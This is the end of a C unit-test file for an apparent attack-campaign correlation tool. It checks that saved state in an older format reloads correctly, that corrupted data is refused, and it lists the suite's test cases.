	size_t size;

	make_two(campaigns, ids);
	before = info_of(campaigns, ids[1]);
	assert_int_equal(campaigns_save(campaigns, &text, &size), 0);
	memcpy(&next, text + next_at, sizeof(next));
	memcpy(words, text + words_at, sizeof(words));
	assert_true(next == campaigns->next_id && words[0] == 0 && words[1] == 0);
	memcpy(text, "luytreC2", 8);
	memmove(text + words_at, text + words_at + words_size, size - words_at - words_size);
	size -= words_size;
	sum = siphash24(sum_key, text, size - sizeof(sum));
	memcpy(text + size - sizeof(sum), &sum, sizeof(sum));
	campaign_limits_default(&limits);
	limits.groups_max = 100;
	assert_int_equal(campaigns_load(&limits, bytes_of(text, size), &again), 0);
	after = info_of(again, ids[1]);
	assert_true(same_info(&before, &after));
	assert_int_equal(again->words.merge_count + again->words.part_count, 0);
	/* Names are found under the number that they were given under then, and what is rare is still known. */
	assert_true(campaigns_instance(again) == (siphash24(campaigns->key, "luytreC2", 8) & INT64_MAX));
	assert_int_equal(add(again, 5, "100.67.1.4", tool, "/vpn/login", NULL).id, ids[0]);
	campaigns_free(again);
	text[words_at] ^= 1;
	assert_int_equal(campaigns_load(&limits, bytes_of(text, size), &again), LUYTRE_E_CORRUPT);
	assert_int_equal(campaigns_load(&limits, bytes_of(text, words_at), &again), LUYTRE_E_CORRUPT);
	memcpy(text, "luytreC1", 8);
	assert_int_equal(campaigns_load(&limits, bytes_of(text, size), &again), LUYTRE_E_VERSION);
	free(text);
	campaigns_free(campaigns);
}

int main(void)
{
	static const struct CMUnitTest tests[] = {
		cmocka_unit_test(two_groups_and_three_sources_make_a_campaign),
		cmocka_unit_test(one_edge_is_one_voice),
		cmocka_unit_test(edges_of_groups_that_prove_to_be_one_count_together),
		cmocka_unit_test(what_everybody_shows_ties_nobody),
		cmocka_unit_test(one_family_alone_ties_nothing),
		cmocka_unit_test(changed_payloads_are_recognised),
		cmocka_unit_test(groups_that_prove_to_be_one_are_merged),
		cmocka_unit_test(campaigns_explain_themselves),
		cmocka_unit_test(the_next_victims_look_like_the_last),
		cmocka_unit_test(memory_is_bounded_and_campaigns_stay_longest),
		cmocka_unit_test(a_new_group_knows_nothing_of_the_old),
		cmocka_unit_test(who_was_quiet_for_longest_goes),
		cmocka_unit_test(bad_detections_are_refused),
		cmocka_unit_test(the_state_lives_over_a_restart),
		cmocka_unit_test(what_may_become_one_is_listed_too),
		cmocka_unit_test(people_merge_campaigns_and_take_it_back),
		cmocka_unit_test(people_split_campaigns_and_take_it_back),
		cmocka_unit_test(words_last_as_long_as_their_campaigns),
		cmocka_unit_test(words_follow_what_the_finder_joins),
		cmocka_unit_test(words_are_bounded),
		cmocka_unit_test(a_state_without_words_is_read),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
